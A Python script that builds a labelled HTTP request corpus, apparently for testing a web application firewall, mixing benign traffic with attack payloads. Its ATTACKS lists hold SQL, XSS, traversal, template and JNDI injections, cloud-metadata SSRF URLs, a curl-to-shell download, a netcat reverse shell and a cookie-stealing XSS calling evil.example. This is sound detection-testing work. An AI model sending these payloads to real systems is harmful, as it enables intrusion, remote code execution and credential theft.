#!/usr/bin/env python3
"""A labelled HTTP corpus for the attack classes and request places of issue 17, with
hard benign traffic, for `palisade eval` and `scripts/eval-waf.sh --corpus`.

  python3 scripts/gen-class-corpus.py > /tmp/classes.jsonl      # deterministic (seed 17)
  python3 scripts/gen-class-corpus.py --seed 23 > /tmp/classes-23.jsonl   # other places and names

The seed draws places, parameter names, paths and benign fillers; the payload and text
lists are the same for every seed.

Sources. Every payload below was written for this file from the techniques as public
references describe them (PayloadsAllTheThings' technique pages, the OWASP testing
guide, the CVE write-ups named inline): one or two forms per technique, varied by hand
(case, spacing, encodings), not copied from a payload list and not taken from the rule
files or from the tests of `crates/detect` — keep it that way: it is the held-out set,
do not tune rules on it. The benign side is the traffic that trips WAFs: JSON APIs,
GraphQL, SOAP, non-English text, long tracking parameters, JWTs and base64 tokens,
prose with SQL/shell words, file uploads.

Each line: {"method","uri","version","headers","body","label","category","part"};
`category` is the attack class (benign lines carry the kind of traffic), `part` the
place the payload sits: query, path, header, cookie, form, json, xml, graphql,
multipart.
"""
import argparse
import base64
import json
import random
import urllib.parse

RNG = random.Random(17)
Q = urllib.parse.quote
UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
      "Chrome/124.0 Safari/537.36")
BASE_HEADERS = [
    ("Host", "shop.example.com"),
    ("User-Agent", UA),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "en-GB,en;q=0.9"),
    ("Accept-Encoding", "gzip, deflate"),
]

# --- attacks, by class: (technique payloads) -------------------------------------
ATTACKS = {
    "sqli": [
        "1 AND 7421=7421",
        "1' AND (SELECT 5128 FROM (SELECT(SLEEP(5)))qQzx)-- -",
        "-3 UNION ALL SELECT NULL,CONCAT(0x716a,user(),0x71),NULL-- -",
        "1) OR 1=1 LIMIT 1#",
        "x'||(SELECT CHAR(113)||CHAR(106) FROM RDB$DATABASE)||'",
        "1;WAITFOR DELAY '0:0:5'--",
        "1 AND ELT(4012=4012,SLEEP(3))",
        "admin'/**/oR/**/'a'='a",
        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
        "1%bf%27 OR 1=1-- ",
        "(SELECT 4564 FROM PG_SLEEP(5))",
        "1' GROUP BY columnnames having 1=1 --",
    ],
    "xss": [
        "<svg/onload=alert(document.domain)>",
        "\"><img src=x onerror=prompt(1)>",
        "javascript:alert(1)//",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<details open ontoggle=confirm`1`>",
        "'-alert(1)-'",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<body onpageshow=eval(atob('YWxlcnQoMSk='))>",
        "<ScRiPt>fetch('//evil.example/'+document.cookie)</sCrIpT>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ],
    "lfi": [
        "../../../../etc/passwd",
        "....//....//....//etc/shadow",
        "..%252f..%252f..%252fetc%252fpasswd",
        "/proc/self/environ",
        "..\\..\\..\\windows\\win.ini",
        "C:\\inetpub\\wwwroot\\web.config",
        "php://filter/convert.base64-encode/resource=index.php",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts",
        "file:///etc/passwd",
    ],
    "rce": [
        ";cat /etc/passwd",
        "| id",
        "$(curl -s http://203.0.113.7/x.sh|sh)",
        "`uname -a`",
        "&ping -c 20 127.0.0.1&",
        "127.0.0.1;nc -e /bin/sh 203.0.113.7 4444",
        "a;wget http://203.0.113.7/bot -O /tmp/b;chmod +x /tmp/b",
        "|powershell -enc SQBFAFgA",
        "$(echo${IFS}aWQ=|base64${IFS}-d|sh)",
        "x';system('id');//",
        "{{7*'7'}}|whoami",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://2130706433/admin",
        "http://0x7f000001:8080/",
        "http://[::ffff:127.0.0.1]/server-status",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "dict://127.0.0.1:11211/stats",
        "http://017700000001/",
        "file:///proc/self/cmdline",
    ],
    "ssti": [
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "<%= `id` %>",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "#{7*7}${{7*7}}",
        "{php}echo `id`;{/php}",
        "{{request.application.__globals__.__builtins__.__import__('os')}}",
        "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    ],
    "jndi": [
        "${jndi:ldap://203.0.113.7:1389/a}",
        "${${lower:j}ndi:${lower:l}dap://x.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/o}",
        "${jndi:dns://${env:USER}.x.example}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}",
    ],
    "nosqli": [
        '{"$ne": null}',
        '{"$gt": ""}',
        "';return true;var x='",
        '{"$where": "sleep(5000)"}',
        '{"$regex": "^adm"}',
        "1; while(true){}",
        '{"$or": [{}, {"a": "a"}]}',
    ],
    "ldapi": [
        "*)(uid=*))(|(uid=*",
        "admin)(&(password=*))",
        "*)(objectClass=*",
        "x)(|(cn=*)",
        "*))%00",
    ],
    "mail": [
        "INBOX\r\nA002 LOGOUT",
        "a@b.example\r\nRCPT TO:<victim@c.example>",
        "x\r\nDATA\r\nSubject: hi\r\n.\r\nQUIT",
        "INBOX\"\r\nA1 CREATE \"owned",
        "user@example.com%0d%0aBcc:all@example.com",
    ],
    "crlf": [
        "%0d%0aSet-Cookie:%20sid=evil",
        "x%0D%0ALocation:%20http://evil.example",
        "%250d%250aX-Injected:%201",
        "%E5%98%8A%E5%98%8DSet-Cookie:a=b",
        "/%0d%0a%0d%0a<script>alert(1)</script>",
    ],
    "scanner": [],  # carried by the User-Agent, see below
}
SCANNER_UAS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Wfuzz/3.1.0",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
]
PARAMS = ["id", "q", "search", "file", "page", "url", "redirect", "name", "email", "sort",
          "callback", "template", "user", "filter", "next", "lang"]
PATHS = ["/api/v1/items", "/search", "/account/profile", "/index.php", "/app/view",
         "/catalog/product", "/download", "/login"]
HEADERS = ["X-Forwarded-Host", "X-Api-Version", "X-Request-Id", "X-Client-Name", "Referer",
           "X-Original-URL", "True-Client-IP", "X-Custom-Filter"]


def req(method, uri, extra_headers=(), body="", ctype=None, label="attack", category="",
        part=""):
    h = list(BASE_HEADERS) + list(extra_headers)
    if ctype:
        h.append(("Content-Type", ctype))
    return {"method": method, "uri": uri, "version": "HTTP/1.1", "headers": [list(x) for x in h],
            "body": body, "label": label, "category": category, "part": part}


def place(cls, payload, where):
    """One request with `payload` placed at `where`."""
    p = RNG.choice(PARAMS)
    path = RNG.choice(PATHS)
    enc = Q(payload, safe="")
    if where == "query":
        return req("GET", f"{path}?{p}={enc}&ref=nav", category=cls, part=where)
    if where == "path":
        seg = Q(payload, safe="")
        return req("GET", f"{path}/{seg}/details", category=cls, part=where)
    if where == "header":
        return req("GET", path, [(RNG.choice(HEADERS), payload.replace("\r\n", "%0d%0a"))],
                   category=cls, part=where)
    if where == "cookie":
        return req("GET", path, [("Cookie", f"session=ab12cd; pref={enc}")], category=cls,
                   part=where)
    if where == "form":
        return req("POST", path, body=f"{p}={enc}&submit=Save",
                   ctype="application/x-www-form-urlencoded", category=cls, part=where)
    if where == "json":
        try:
            val = json.loads(payload) if payload.startswith("{") else payload
        except ValueError:
            val = payload
        return req("POST", path, body=json.dumps({p: val, "page": 1}),
                   ctype="application/json", category=cls, part=where)
    if where == "xml":
        x = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        body = ('<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/'
                f'soap/envelope/"><soap:Body><GetItem><{p}>{x}</{p}></GetItem></soap:Body>'
                '</soap:Envelope>')
        return req("POST", "/ws/ItemService", body=body, ctype="text/xml; charset=utf-8",
                   category=cls, part=where)
    if where == "graphql":
        q = {"query": "query($v: String!) { items(filter: $v) { id name } }",
             "variables": {"v": payload}}
        return req("POST", "/graphql", body=json.dumps(q), ctype="application/json",
                   category=cls, part=where)
    if where == "multipart":
        b = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
        body = (f"--{b}\r\nContent-Disposition: form-data; name=\"{p}\"\r\n\r\n{payload}\r\n"
                f"--{b}--\r\n")
        return req("POST", "/upload", body=body, ctype=f"multipart/form-data; boundary={b}",
                   category=cls, part=where)
    if where == "base64":
        b64 = base64.b64encode(payload.encode()).decode()
        return req("GET", f"{path}?{p}={Q(b64, safe='')}", category=cls, part="query_base64")
    raise ValueError(where)


WHERE = ["query", "path", "header", "cookie", "form", "json", "xml", "graphql", "multipart",
         "base64"]


def attacks():
    out = []
    for cls, payloads in ATTACKS.items():
        for payload in payloads:
            # every payload in the query, plus three other places drawn at random
            places = ["query"] + RNG.sample(WHERE[1:], 3)
            for w in places:
                out.append(place(cls, payload, w))
    for ua in SCANNER_UAS:
        out.append(req("GET", RNG.choice(PATHS), [("User-Agent", ua)], category="scanner",
                       part="header"))
    return out


# --- hard benign -----------------------------------------------------------------
def jwt():
    def b(d):
        return base64.urlsafe_b64encode(json.dumps(d).encode()).decode().rstrip("=")
    sig = base64.urlsafe_b64encode(RNG.randbytes(32)).decode().rstrip("=")
    return f"{b({'alg': 'HS256', 'typ': 'JWT'})}.{b({'sub': str(RNG.randint(1, 10**6)), 'iat': 1733400000, 'role': 'user'})}.{sig}"


TEXTS = [
    "Привет, как дела? Заказ №4521 готов к выдаче",
    "東京都渋谷区の新しいカフェ、営業時間は9時から18時まで",
    "Größenänderung für Überweisungen — Müller & Söhne GmbH",
    "¿Dónde está la estación? Necesito llegar antes de las 8",
    "مرحبا بكم في متجرنا الإلكتروني",
    "I'd like to select a seat near the window, or drop me an email",
    "Please update the order; the union of both lists is fine",
    "Where did I put my keys -- under the mat? or in the car",
    "Use <b>bold</b> sparingly & keep it readable",
    "Price: 5 < 10 and 20 > 3, isn't it?",
    "The script ran at 3 o'clock; select all that apply",
    "C'est l'été ! Réservez aujourd'hui, 50 % de réduction",
    "He said \"hello\" and then left; rm -rf is a command I never run",
    "SELECT your favourite: tea, coffee or juice",
]


def benign():
    out = []
    for t in TEXTS:
        p = RNG.choice(["q", "comment", "message", "title"])
        out.append(req("GET", f"/search?{p}={Q(t)}&page=2", label="normal",
                       category="text", part="query"))
        out.append(req("POST", "/comments", body=f"{p}={Q(t)}&post_id={RNG.randint(1, 9999)}",
                       ctype="application/x-www-form-urlencoded", label="normal",
                       category="text", part="form"))
        out.append(req("POST", "/api/v2/messages",
                       body=json.dumps({"text": t, "lang": "auto", "tags": ["a", "b"]},
                                       ensure_ascii=False),
                       ctype="application/json; charset=utf-8", label="normal",
                       category="text", part="json"))
    for _ in range(30):
        utm = "&".join([
            f"utm_source={RNG.choice(['google', 'newsletter', 'facebook'])}",
            f"utm_medium={RNG.choice(['cpc', 'email', 'social'])}",
            f"utm_campaign=spring_sale_{RNG.randint(2020, 2026)}_{RNG.choice(['uk', 'de', 'fr'])}",
            f"gclid={base64.urlsafe_b64encode(RNG.randbytes(48)).decode().rstrip('=')}",
            f"fbclid=IwAR{base64.urlsafe_b64encode(RNG.randbytes(40)).decode().rstrip('=')}",
            f"_ga=2.{RNG.randint(10**8, 10**9)}.{RNG.randint(10**8, 10**9)}.{RNG.randint(10**9, 2 * 10**9)}",
            f"ref={Q('https://www.example.org/blog/2024/05/best-of?x=1&y=2', safe='')}",
        ])
        out.append(req("GET", f"/landing/spring?{utm}", label="normal", category="tracking",
                       part="query"))
    for _ in range(30):
        t = jwt()
        kind = RNG.choice(["bearer", "cookie", "query", "json"])
        if kind == "bearer":
            out.append(req("GET", f"/api/v1/orders?limit={RNG.randint(1, 50)}",
                           [("Authorization", f"Bearer {t}")], label="normal",
                           category="token", part="header"))
        elif kind == "cookie":
            out.append(req("GET", "/account", [("Cookie", f"session={t}; theme=dark")],
                           label="normal", category="token", part="cookie"))
        elif kind == "query":
            out.append(req("GET", f"/oauth/callback?code={Q(t)}&state={RNG.randbytes(8).hex()}",
                           label="normal", category="token", part="query"))
        else:
            out.append(req("POST", "/api/v1/token/refresh",
                           body=json.dumps({"refresh_token": t,
                                            "device": base64.b64encode(RNG.randbytes(24)).decode()}),
                           ctype="application/json", label="normal", category="token",
                           part="json"))
    gql = [
        "query { viewer { login repositories(first: 10, orderBy: {field: UPDATED_AT, direction: DESC}) { nodes { name } } } }",
        "mutation AddComment($id: ID!, $body: String!) { addComment(input: {subjectId: $id, body: $body}) { clientMutationId } }",
        "query Search($q: String!) { search(query: $q, type: ISSUE, first: 5) { issueCount edges { node { ... on Issue { title url } } } } }",
        "{ __typename product(id: \"42\") { name price(currency: EUR) reviews(where: {rating_gte: 4}) { text } } }",
    ]
    for i in range(24):
        q = gql[i % len(gql)]
        variables = {"id": f"MDU6SXNzdWU{RNG.randint(10**5, 10**6)}",
                     "body": RNG.choice(TEXTS), "q": "select where union is:open"}
        out.append(req("POST", "/graphql", body=json.dumps({"query": q, "variables": variables},
                                                           ensure_ascii=False),
                       ctype="application/json", label="normal", category="graphql",
                       part="graphql"))
    for i in range(16):
        body = ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://'
                'schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/'
                'XMLSchema-instance"><soap:Header><wsse:Security xmlns:wsse="http://docs.'
                'oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">'
                f'<wsse:UsernameToken><wsse:Username>user{i}</wsse:Username></wsse:UsernameToken>'
                '</wsse:Security></soap:Header><soap:Body><GetQuote><symbol>'
                f'{RNG.choice(["AAPL", "MSFT", "SAP.DE"])}</symbol><note>'
                f'{RNG.choice(TEXTS).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")}'
                '</note></GetQuote></soap:Body></soap:Envelope>')
        out.append(req("POST", "/ws/QuoteService", [("SOAPAction", "\"urn:GetQuote\"")],
                       body=body, ctype="text/xml; charset=utf-8", label="normal",
                       category="soap", part="xml"))
    for i in range(30):
        obj = {"order": {"id": RNG.randint(1, 10**6), "items": [
            {"sku": f"SKU-{RNG.randint(1000, 9999)}", "qty": RNG.randint(1, 5),
             "note": RNG.choice(TEXTS)} for _ in range(RNG.randint(1, 4))],
            "address": {"street": "1 Rue de l'Église", "city": "Zürich", "zip": "8001"},
            "filters": {"status": ["open", "paid"], "sort": "-created_at", "q": "a OR b"},
            "flags": {"gift": RNG.random() < 0.5}}}
        out.append(req(RNG.choice(["POST", "PUT", "PATCH"]), f"/api/v1/orders/{RNG.randint(1, 9999)}",
                       [("Authorization", f"Bearer {jwt()}"), ("X-Request-Id", RNG.randbytes(16).hex())],
                       body=json.dumps(obj, ensure_ascii=False), ctype="application/json",
                       label="normal", category="json_api", part="json"))
    for i in range(16):
        b = "----WebKitFormBoundary" + RNG.randbytes(8).hex()
        content = base64.b64encode(RNG.randbytes(300)).decode()
        name = RNG.choice(["report Q3 (final).pdf", "Фото_2024.jpg", "notes; draft.txt",
                           "image (1).png"])
        body = (f"--{b}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n"
                f"{RNG.choice(TEXTS)}\r\n--{b}\r\nContent-Disposition: form-data; name=\"file\"; "
                f"filename=\"{name}\"\r\nContent-Type: application/octet-stream\r\n\r\n{content}\r\n"
                f"--{b}--\r\n")
        out.append(req("POST", "/upload", body=body, ctype=f"multipart/form-data; boundary={b}",
                       label="normal", category="upload", part="multipart"))
    for i in range(20):
        seg = RNG.choice(["2024/05/why-we-select-rust", "users/o'brien", "docs/c++/templates",
                          "wiki/Zürich_(Stadt)", "tags/sql-union-queries", "p/%E6%9D%B1%E4%BA%AC",
                          "files/report%20final%20(2).pdf", "a/b/c/d/e/f/g/h"])
        out.append(req("GET", f"/{seg}", [("Referer", "https://www.google.com/")],
                       label="normal", category="path", part="path"))
    return out


def main():
    ap = argparse.ArgumentParser(description="labelled corpus of issue 17's classes and places")
    ap.add_argument("--seed", type=int, default=17, help="random seed (default 17)")
    RNG.seed(ap.parse_args().seed)
    rows = attacks() + benign()
    for r in rows:
        print(json.dumps(r, ensure_ascii=False))


if __name__ == "__main__":
    main()
